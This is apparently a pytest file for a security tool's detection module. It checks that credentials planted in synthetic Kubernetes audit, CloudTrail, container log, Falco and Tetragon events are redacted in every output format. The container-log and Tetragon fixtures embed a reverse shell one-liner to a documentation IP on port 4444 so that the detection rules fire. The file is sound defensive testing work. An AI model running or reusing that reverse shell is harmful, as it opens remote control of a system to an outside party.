"""No detect finding prints a secret: every kind of credential, planted in an event of every source
that fires a rule, is redacted in the evidence, the samples and the keys of the finding, in every
output format -- it appears only as its first characters + "****"."""

from __future__ import annotations

import io
import json
from pathlib import Path
from typing import Any

import orjson
import pytest

from seawall.core import ReportKind
from seawall.detect.analyzer import DETECT
from seawall.detect.findings import evidence, redact
from seawall.report import formats_for, render
from tests.conftest import run_cli

JWT = (
    "eyJhbGciOiJSUzI1NiIsImtpZCI6IjVKYzFsd3VwbGkifQ.eyJpc3MiOiJrdWJlcm5ldGVzL3NlcnZpY2VhY2NvdW50Iiwic3ViIjoic3lzdGVt"
    "OnNlcnZpY2VhY2NvdW50OmRhdGE6ZXRsLXJ1bm5lciJ9.c2lnbmF0dXJlLW9mLXRoZS10b2tlbi10aGF0LWlzLWxvbmctZW5vdWdo"
)
SECRETS = {
    "bearer": "4f9c2e1a7b3d5e8f0a1c2b3d4e5f6a7b8c9d0e1f",
    "basic": "YWRtaW46U3VwZXJTZWNyZXQxMjM=",
    "aws key id": "AKIAZ7Q3XMPLEKEY4ABC",
    "aws secret": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY",
    "url password": "Pgs3cretPassw0rd",
    "query token": "qt_8c1d9e2f3a4b5c6d7e8f9a0b",
    "private key": "MIIEpAIBAAKCAQEA7bq3jD4fTk1sWm3x9QzpL0aNfVb8YcR2uKoJe5Hn",
    "jwt": JWT,
    "kubeconfig token": "k8s-aws-v1.aHR0cHM6Ly9zdHMuZXUtd2VzdC0xLmFtYXpvbmF3cy5jb20vP0FjdGlvbj1HZXRDYWxs",
}
TEXT = (
    f"curl -H 'Authorization: Bearer {SECRETS['bearer']}' -H 'authorization: Basic {SECRETS['basic']}' "
    f"AWS_ACCESS_KEY_ID={SECRETS['aws key id']} aws_secret_access_key={SECRETS['aws secret']} "
    f"postgres://app:{SECRETS['url password']}@db.internal:5432/ledger "
    f"https://api.example.com/v1/items?id=7&access_token={SECRETS['query token']} "
    f"-----BEGIN RSA PRIVATE KEY-----\\n{SECRETS['private key']}\\n "
    f"--token={JWT} token: {SECRETS['kubeconfig token']}"
)


@pytest.mark.parametrize("kind", list(SECRETS))
def test_each_kind_is_redacted(kind: str) -> None:
    shown = redact(TEXT)
    assert SECRETS[kind] not in shown, kind
    assert SECRETS[kind][:2] in shown  # a redacted prefix stays, so the analyst sees what it was
    assert "****" in shown


def test_a_secret_across_the_evidence_cut_is_still_hidden() -> None:
    line = b"x" * 2030 + b" Authorization: Bearer " + SECRETS["bearer"].encode() + b" tail"
    shown = evidence(line)
    assert SECRETS["bearer"] not in shown and SECRETS["bearer"][:12] not in shown


def _audit() -> bytes:
    # a ConfigMap with credentials (SW-K8S-CONFIGMAP-CREDENTIALS), the secrets in its data and URI
    return orjson.dumps(
        {
            "kind": "Event",
            "apiVersion": "audit.k8s.io/v1",
            "level": "RequestResponse",
            "auditID": "a1",
            "stage": "ResponseComplete",
            "verb": "create",
            "requestURI": f"/api/v1/namespaces/web/configmaps?fieldManager=x&token={SECRETS['query token']}",
            "user": {"username": "alice"},
            "objectRef": {"resource": "configmaps", "namespace": "web", "name": "app"},
            "responseStatus": {"code": 201},
            "requestObject": {"data": {"db_password": "x", "notes": TEXT}},
            "stageTimestamp": "2026-03-03T10:00:00Z",
        }
    )


def _cloudtrail() -> bytes:
    return orjson.dumps(
        {
            "Records": [
                {
                    "eventTime": "2026-03-03T10:00:00Z",
                    "eventSource": "ecs.amazonaws.com",
                    "eventName": "ExecuteCommand",
                    "eventID": "e1",
                    "recipientAccountId": "111122223333",
                    "userIdentity": {
                        "type": "IAMUser",
                        "arn": "arn:aws:iam::111122223333:user/bob",
                        "accessKeyId": SECRETS["aws key id"],
                    },
                    "requestParameters": {
                        "cluster": "prod",
                        "task": "arn:aws:ecs:eu-west-1:111122223333:task/prod/0f9d",
                        "container": "web",
                        "command": TEXT,
                        "interactive": True,
                    },
                }
            ]
        }
    )


def _container_logs() -> bytes:
    line = f"2026-03-03T10:00:00.000000000Z stdout F bash -i >& /dev/tcp/198.51.100.4/4444 0>&1; {TEXT}\n"
    return line.encode()


def _falco() -> bytes:
    return orjson.dumps(
        {
            "rule": "Terminal shell in container",
            "priority": "Critical",
            "time": "2026-03-03T10:00:00.000000000Z",
            "output": f"A shell was spawned (cmdline={TEXT})",
            "output_fields": {
                "container.id": "3ad7b26ded6d",
                "k8s.ns.name": "web",
                "k8s.pod.name": "api",
                "proc.cmdline": TEXT,
                "proc.exepath": "/bin/bash",
            },
        }
    )


def _tetragon() -> bytes:
    return orjson.dumps(
        {
            "time": "2026-03-03T10:00:00Z",
            "process_exec": {
                "process": {
                    "binary": "/bin/bash",
                    "arguments": f"-c 'bash -i >& /dev/tcp/198.51.100.4/4444 0>&1' {TEXT}",
                    "pod": {
                        "namespace": "web",
                        "name": "api-5d9c",
                        "container": {"id": "containerd://3ad7b26ded6d"},
                    },
                }
            },
        }
    )


SOURCES: dict[str, tuple[str, Any]] = {
    "k8s-audit": ("audit.log", _audit),
    "cloudtrail": ("trail.json", _cloudtrail),
    "container-logs": ("var/log/pods/web_api-5d9c_0f6b1c1e/api/0.log", _container_logs),
    "falco": ("falco.json", _falco),
    "tetragon": ("tetragon.log", _tetragon),
}
FORMATS = [f for f in formats_for(ReportKind.FINDINGS) if not f.startswith("cyclonedx")]


@pytest.mark.parametrize("source", list(SOURCES))
def test_no_secret_in_any_output_of_any_source(tmp_path: Path, source: str) -> None:
    """Through the CLI (JSON and the terminal table), then every other format rendering the same
    report (what --format would print)."""
    name, make = SOURCES[source]
    path = tmp_path / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(make())
    outputs = {}
    for fmt in ("json", "table"):
        proc = run_cli("detect", "--source", source, str(path), "--no-state", "--format", fmt)
        assert proc.returncode == 0, proc.stderr
        outputs[fmt] = proc.stdout + proc.stderr
    report = json.loads(outputs["json"])
    assert report["findings"], f"{source}: no finding"
    assert "****" in json.dumps(report["findings"])
    result = DETECT.run([str(path)], DETECT.options(source=source, paths=[str(path)], state_path=None))
    for fmt in FORMATS:
        buffer = io.StringIO()
        render(result, fmt, buffer)
        outputs[f"{fmt} (rendered)"] = buffer.getvalue()
    for where, text in outputs.items():
        for kind, secret in SECRETS.items():
            assert secret not in text, f"{source} -f {where}: the {kind} was printed"
